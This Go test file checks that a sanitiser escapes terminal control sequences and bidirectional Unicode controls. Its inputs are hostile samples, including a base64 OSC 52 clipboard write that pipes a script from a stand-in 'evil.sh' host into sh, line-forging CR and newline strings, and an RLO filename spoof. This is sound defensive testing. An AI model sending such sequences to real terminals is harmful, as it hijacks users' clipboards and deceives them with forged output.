package printable

import (
	"encoding/json"
	"strings"
	"testing"
)

// TestLine holds issue 27 item 3: each sequence a hostile guest or server
// could send a terminal, and each bidirectional control, comes out as
// visible escapes on one line.
func TestLine(t *testing.T) {
	for _, tt := range []struct {
		name, in, want string
	}{
		{"plain", "fetched 3 of 10 pages", "fetched 3 of 10 pages"},
		{"unicode", "café — 東京 ✓", "café — 東京 ✓"},
		{"OSC 52 clipboard write", "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07", `\x1b]52;c;Y3VybCBldmlsLnNofHNo\a`},
		{"window title", "\x1b]0;pwned\x1b\\", `\x1b]0;pwned\x1b\`},
		{"clear screen", "\x1b[2J\x1b[H", `\x1b[2J\x1b[H`},
		{"CR forging a line", "working\rtask t1 completed", `working\rtask t1 completed`},
		{"newline forging a line", "50%\ntask t1: completed", `50%\ntask t1: completed`},
		{"tab", "a\tb", `a\tb`},
		{"NUL", "a\x00b", `a\x00b`},
		{"DEL", "a\x7fb", `a\x7fb`},
		{"C1 CSI", "a\u009b2Jb", `a\u009b2Jb`},
		{"C1 OSC", "a\u009d0;t\u009cb", `a\u009d0;t\u009cb`},
		{"RLO override", "invoice\u202etxt.exe", `invoice\u202etxt.exe`},
		{"LRE PDF", "\u202aa\u202c", `\u202aa\u202c`},
		{"isolates", "\u2066a\u2067b\u2068c\u2069", `\u2066a\u2067b\u2068c\u2069`},
		{"marks", "\u200ea\u200fb\u061cc", `\u200ea\u200fb\u061cc`},
		{"line separator", "a\u2028b\u2029c", `a\u2028b\u2029c`},
		{"invalid UTF-8", "a\xffb", "a\uFFFDb"},
	} {
		got := Line(tt.in)
		if got != tt.want {
			t.Errorf("%s: Line(%q) = %q, want %q", tt.name, tt.in, got, tt.want)
		}
		if _, _, bad := First(got); bad || strings.ContainsAny(got, "\n\r\x1b") {
			t.Errorf("%s: %q still holds an unsafe character", tt.name, got)
		}
	}
}

func TestFirst(t *testing.T) {
	if r, at, ok := First("key\x00x"); !ok || r != 0 || at != 3 {
		t.Errorf("First = %q, %d, %v", r, at, ok)
	}
	if _, _, ok := First("alice@example.com|auth0"); ok {
		t.Error("a plain identity has no unsafe character")
	}
}

func FuzzLine(f *testing.F) {
	f.Add("\x1b]52;c;eA==\x07\r\n\u202e")
	f.Fuzz(func(t *testing.T, s string) {
		got := Line(s)
		for _, c := range got {
			if Unsafe(c) {
				t.Fatalf("Line(%q) = %q holds %U", s, got, c)
			}
		}
	})
}

// TestJSON: a server's JSON reaches a terminal with no character a
// terminal acts on, and decodes to the same value.
func TestJSON(t *testing.T) {
	in := map[string]string{"m": "a\x1b]52;c;eA==\x07 \u009b2J \u202eexe.txt \x7f \u2028 ok é"}
	b, _ := json.Marshal(in)
	got := JSON(b)
	for _, c := range string(got) {
		if Unsafe(c) {
			t.Fatalf("%s holds %U", got, c)
		}
	}
	var back map[string]string
	if err := json.Unmarshal(got, &back); err != nil || back["m"] != in["m"] {
		t.Fatalf("%s decodes to %q (%v), want %q", got, back["m"], err, in["m"])
	}
	indented, _ := json.MarshalIndent(in, "", "\t")
	if g := string(JSON(indented)); !strings.Contains(g, "{\n\t\"m\"") {
		t.Errorf("layout escaped: %s", g)
	}
	plain := []byte(`{"a":"b é"}`)
	if g := JSON(plain); &g[0] != &plain[0] {
		t.Error("clean JSON was copied")
	}
}
